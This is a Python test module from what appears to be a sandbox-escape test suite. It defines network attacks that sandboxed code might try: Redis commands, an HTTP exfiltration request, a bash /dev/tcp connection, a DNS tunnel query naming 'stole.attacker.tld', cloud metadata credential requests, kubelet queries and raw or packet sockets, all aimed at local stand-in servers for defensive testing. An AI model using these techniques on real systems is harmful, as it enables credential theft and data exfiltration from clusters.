"""Attacks 5 to 12: every way to a socket that somebody else holds."""

from tests.runner.sandbox.attacks.attack import Attack, any_of, claims, reaches

_KINDS = """
kinds = {
    "TCP": (socket.AF_INET, socket.SOCK_STREAM, 0),
    "TCP6": (socket.AF_INET6, socket.SOCK_STREAM, 0),
    "UDP": (socket.AF_INET, socket.SOCK_DGRAM, 0),
    "raw": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "ping": (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    "MPTCP": (socket.AF_INET, socket.SOCK_STREAM, 262),
    "netlink": (socket.AF_NETLINK, socket.SOCK_RAW, 0),
    "packet": (socket.AF_PACKET, socket.SOCK_RAW, 0),
    "vsock": (socket.AF_VSOCK, socket.SOCK_STREAM, 0),
    "kernel crypto": (socket.AF_ALG, socket.SOCK_SEQPACKET, 0),
}
"""


def _one_kind(number: str, kind: str, goal: str, already: str = "") -> Attack:
    body = f"{_KINDS}\n@attempt({kind!r})\ndef _():\n    return socket.socket(*kinds[{kind!r}]).fileno()\n"
    return Attack(
        number, f"a socket of the kind {kind}", goal, f"{body}did('ask for {kind}')", already=already
    )


_TALK = """
def talk(port, words, host="127.0.0.1", family=socket.AF_INET, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as line:
        line.settimeout(3)
        line.connect((host, port))
        line.sendall(words)
        return line.recv(200).decode(errors="replace")
"""

NETWORK = (
    Attack(
        "5",
        "TCP to Redis",
        "Speaks Redis to the server that holds the queue.",
        f"{_TALK}\n@attempt('Redis')\ndef _():\n    return talk(given['tcp_port'], b'KEYS *\\r\\n')\n",
        achieved=reaches,
        needs_pod="the real Redis service, by name and by cluster address",
    ),
    Attack(
        "6",
        "TCP to S3 or a model",
        "Sends what it knows to a server of the internet.",
        f"""{_TALK}
@attempt("a request")
def _():
    return talk(given["tcp_port"], b"PUT /bucket/key HTTP/1.0\\r\\n\\r\\n")

@attempt("a request over IPv6")
def _():
    return talk(given["tcp6_port"], b"GET / HTTP/1.0\\r\\n\\r\\n", "::1", socket.AF_INET6)

@attempt("a request by another program")
def _():
    script = f"exec 3<>/dev/tcp/127.0.0.1/{{given['tcp_port']}}; echo GET / >&3; cat <&3"
    order = ["/bin/bash", "-c", script]
    return subprocess.run(order, capture_output=True, text=True, check=True, timeout=4).stdout

@attempt("a connection that begins with data")
def _():
    with socket.socket() as line:
        line.sendto(b"GET / HTTP/1.0\\r\\n\\r\\n", 0x20000000, ("127.0.0.1", given["tcp_port"]))
        return line.recv(200).decode()
""",
        achieved=reaches,
        needs_pod="an address of the internet, and the S3 endpoint",
    ),
    Attack(
        "7",
        "UDP and DNS tunnel",
        "Hides what it knows in the names that it asks a name server for.",
        """
query = b"\\x12\\x34\\x01\\0\\0\\x01" + bytes(6) + b"\\x05stole\\x08attacker\\x03tld\\0\\0\\x01\\0\\x01"
@attempt("a question to a name server")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(3)
        line.sendto(query, ("127.0.0.1", given["udp_port"]))
        return line.recv(200).decode()
""",
        achieved=reaches,
        needs_pod="the cluster's DNS: the name asked for must not reach it",
    ),
    Attack(
        "8",
        "HTTP to the metadata service",
        "Asks the cloud's metadata service for the machine's credentials; a server of ours stands in for it.",
        """
import urllib.request
@attempt("metadata")
def _():
    url = f"http://127.0.0.1:{given['tcp_port']}/latest/meta-data/iam/"
    return urllib.request.urlopen(url, timeout=3).read().decode()
""",
        achieved=reaches,
        needs_pod="169.254.169.254 and fd00:ec2::254 themselves",
    ),
    Attack(
        "9",
        "Kubernetes API and kubelet",
        "Asks the kubelet for the pods of its machine.",
        f"""{_TALK}
@attempt("kubelet")
def _():
    return talk(given["kubelet_port"], b"GET /pods HTTP/1.0\\r\\n\\r\\n")
""",
        achieved=reaches,
        needs_pod="KUBERNETES_SERVICE_HOST and the node's port 10250",
    ),
    Attack(
        "10",
        "the runner's port on this machine",
        "Reaches a server of the runner on loopback, and listens for others there itself.",
        f"""{_TALK}
@attempt("connect")
def _():
    return talk(given["tcp_port"], b"POST /cancel HTTP/1.0\\r\\n\\r\\n", "localhost")

@attempt("listen")
def _():
    with socket.create_server(("127.0.0.1", 0)) as server:
        return f"a server on port {{server.getsockname()[1]}}"
""",
        achieved=any_of(reaches, claims),
        needs_pod="the runner's health port, over the pod's shared loopback",
    ),
    Attack(
        "11a",
        "abstract Unix socket",
        "Connects to a Unix socket that has no file, as desktop buses and container tools have.",
        """
@attempt("abstract socket")
def _():
    with socket.socket(socket.AF_UNIX) as line:
        line.connect("\\0" + given["abstract_name"])
        return line.recv(200).decode()
""",
        achieved=reaches,
        needs_pod="the pod's containers share one network namespace, and so its abstract sockets",
    ),
    Attack(
        "11b",
        "Unix socket by its path",
        "Connects to another program's Unix socket, and to it through a socket pair.",
        """
@attempt("a socket's path")
def _():
    with socket.socket(socket.AF_UNIX) as line:
        line.connect(given["unix_path"])
        return line.recv(200).decode()

@attempt("half of a socket pair")
def _():
    half, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    half.sendto(b"knock", given["datagram_path"])

@attempt("half of a pair, connected anew")
def _():
    half, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    half.connect("\\0" + given["abstract_name"] + "-datagram")
    half.send(b"knock")
""",
        achieved=reaches,
    ),
    Attack(
        "12a",
        "MPTCP",
        "Connects by Multipath TCP, which the kernel's rules for TCP ports overlook.",
        f"""{_TALK}
@attempt("MPTCP")
def _():
    return talk(given["tcp_port"], b"GET / HTTP/1.0\\r\\n\\r\\n", protocol=262)
""",
        achieved=reaches,
    ),
    _one_kind("12b", "netlink", "Asks the kernel for routes and neighbours."),
    _one_kind("12c", "packet", "Sees and forges the packets of this network."),
    _one_kind("12d", "vsock", "Speaks to the machine that runs this virtual one."),
    _one_kind("12e", "raw", "Sends packets of any form."),
    _one_kind(
        "12f",
        "ping",
        "Sends echoes, with what it knows inside.",
        "most kernels leave it to no group (net.ipv4.ping_group_range); where they do, socket() decides",
    ),
    _one_kind(
        "12g",
        "kernel crypto",
        "Reaches kernel code that parses what users send.",
        "a kernel without CONFIG_CRYPTO_USER_API has no such family; with it, socket() decides",
    ),
    Attack(
        "12h",
        "SCTP",
        "Connects by a protocol that rules for TCP and UDP overlook.",
        """
@attempt("SCTP")
def _():
    return socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).fileno()
did("ask for SCTP")
""",
        already="a kernel without CONFIG_IP_SCTP has no such protocol; with it, socket() decides",
        needs_pod="a node whose kernel has SCTP",
    ),
)
